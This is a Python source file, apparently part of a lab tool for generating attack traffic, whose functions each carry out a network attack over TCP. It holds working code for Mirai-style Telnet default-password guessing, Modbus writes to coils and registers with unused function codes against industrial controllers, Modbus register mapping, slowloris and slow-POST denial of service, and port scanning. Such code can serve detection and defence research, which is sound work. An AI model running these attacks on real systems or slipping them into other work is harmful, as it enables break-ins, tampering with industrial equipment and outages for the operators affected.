"""Attacks over whole TCP connections: guessing, requests that never end, requests a controller should refuse."""

from __future__ import annotations

import contextlib
import socket
import struct
import time

from lab.bots.pace import Told


def telnet_guess(told: Told) -> None:
    """Guess default passwords, a few per connection, as Mirai's scanner does."""
    pairs = [line.partition(":") for line in told.words]

    def prompt(line: socket.socket) -> None:
        seen = b""
        while not seen.rstrip().endswith((b":", b"#", b"$")):
            if not (chunk := line.recv(512)):
                raise ConnectionResetError
            seen += chunk
            for at in range(len(chunk) - 2):
                if chunk[at] == 255 and chunk[at + 1] in (251, 253):
                    line.sendall(bytes([255, 254 if chunk[at + 1] == 251 else 252, chunk[at + 2]]))

    def visit() -> None:
        with told.connect() as line:
            for _ in range(max(1, int(told.hold_s))):
                user, _, password = told.rng.choice(pairs)
                for text in (user, password):
                    prompt(line)
                    line.sendall(f"{text}\r\n".encode())
                prompt(line)

    told.in_parallel(visit)


def modbus_misuse(told: Told) -> None:
    """Write registers and try function codes nobody uses."""

    def visit() -> None:
        with told.connect() as line:
            for turn in range(told.rng.randint(1, 12)):
                function = told.rng.choice([5, 6, 15, 16, 8, 43, 90, 100])
                body = bytes([1, function]) + told.rng.randbytes(told.rng.choice([4, 4, 4, 9, 40]))
                line.sendall(struct.pack(">HHH", turn, 0, len(body)) + body)
                line.recv(260)

    told.in_parallel(visit)


def modbus_storm(told: Told) -> None:
    """Write coils and registers without end, `hold_s` times per connection."""

    def visit() -> None:
        with told.connect() as line:
            for turn in range(max(1, int(told.hold_s))):
                if turn and not told.pace.turn():
                    return
                start, value = told.rng.randrange(200), told.rng.choice([0, 0xFF00, told.rng.randrange(65536)])
                function = told.rng.choice([5, 6, 6, 16])
                body = struct.pack(">BBHH", 1, function, start, value if function != 16 else 2)
                body += struct.pack(">BHH", 4, value, value) if function == 16 else b""
                line.sendall(struct.pack(">HHH", turn & 0xFFFF, 0, len(body)) + body)
                line.recv(260)

    told.in_parallel(visit)


def modbus_mapping(told: Told) -> None:
    """Read all register blocks of all units in turn, `hold_s` of them per connection."""
    blocks = [
        (unit, function, start) for unit in (1, 2, 255) for function in (3, 4, 1) for start in range(0, 2000, 100)
    ]
    left = iter(blocks * 10)

    def visit() -> None:
        with told.connect() as line:
            for turn in range(max(1, int(told.hold_s))):
                if turn and not told.pace.turn():
                    return
                unit, function, start = next(left, blocks[0])
                line.sendall(struct.pack(">HHHBBHH", turn, 0, 6, unit, function, start, 100))
                line.recv(260)

    told.in_parallel(visit)


def hold_open(told: Told, *, opening: bytes, crumb: bytes) -> None:
    """Open connections at the rate, then feed each a crumb at a time until `hold_s` are over."""
    held: list[socket.socket] = []
    end_s = time.monotonic() + told.hold_s
    next_crumbs_s = time.monotonic() + told.rng.uniform(1, 5)
    more = True
    while time.monotonic() < end_s:
        more = more and told.pace.turn()
        if more:
            with contextlib.suppress(OSError):
                line = told.connect()
                line.sendall(opening)
                held.append(line)
        else:
            time.sleep(0.05)
        if time.monotonic() > next_crumbs_s:
            next_crumbs_s = time.monotonic() + told.rng.uniform(1, 5)
            for line in held:
                with contextlib.suppress(OSError):
                    line.sendall(crumb)
    for line in held:
        line.close()


def slow_headers(told: Told) -> None:
    """Keep HTTP requests open by headers that never end (slowloris)."""
    hold_open(told, opening=f"GET / HTTP/1.1\r\nHost: {told.target}\r\n".encode(), crumb=b"X-a: b\r\n")


def slow_body(told: Told) -> None:
    """Keep HTTP requests open by a body that comes a few bytes at a time (slow POST)."""
    opening = f"POST /upload HTTP/1.1\r\nHost: {told.target}\r\nContent-Length: 100000\r\n\r\n".encode()
    hold_open(told, opening=opening, crumb=b"ab")


def knock(told: Told) -> None:
    """Try the ports of a host one after the other by plain connections, at any rate down to one in many seconds."""
    order = list(told.ports)
    told.rng.shuffle(order)

    def probe() -> None:
        if order:
            told.connect(order.pop()).close()

    told.in_parallel(probe)
